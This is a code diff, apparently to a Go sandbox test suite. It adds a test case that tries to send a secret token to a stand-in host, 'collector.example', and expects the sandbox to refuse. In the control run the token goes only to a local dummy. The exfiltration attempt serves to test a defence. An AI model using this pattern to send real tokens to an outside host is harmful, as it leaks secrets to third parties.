@@ -48,6 +48,11 @@ var secrets = []misdeed{
 		harm: knocked("agent"), wall: ownFiles,
 	},
 	{
+		name: "internet", title: "send it to " + collector,
+		try:  send,
+		harm: knocked("collector"), wall: refused,
+	},
+	{
 		name: "loopback", title: "call a service on 127.0.0.1",
 		try:  func(t target) (string, error) { return knock("tcp", fmt.Sprintf("127.0.0.1:%d", t.Port), t.Token) },
 		harm: knocked("service"), wall: ownNetwork,
@@ -105,6 +110,19 @@ func knock(network, address, word string) (string, error) {
 	}
 	answer, err := bufio.NewReader(c).ReadString('\n')
 	return strings.TrimSpace(answer), err
+}
+
+// collector is a host of nobody's.
+const collector = "collector.example"
+
+// send takes the word to the collector. The control must not send anything off this
+// machine, so there the collector is a dummy on 127.0.0.1. In the sandbox nothing leaves
+// either: the name is refused before anybody is asked for its address.
+func send(t target) (string, error) {
+	if t.Bare {
+		return knock("tcp", fmt.Sprintf("127.0.0.1:%d", t.Collector), t.Token)
+	}
+	return knock("tcp", collector+":443", t.Token)
 }
 
 // knocked says whether somebody who knows the word came to a door.
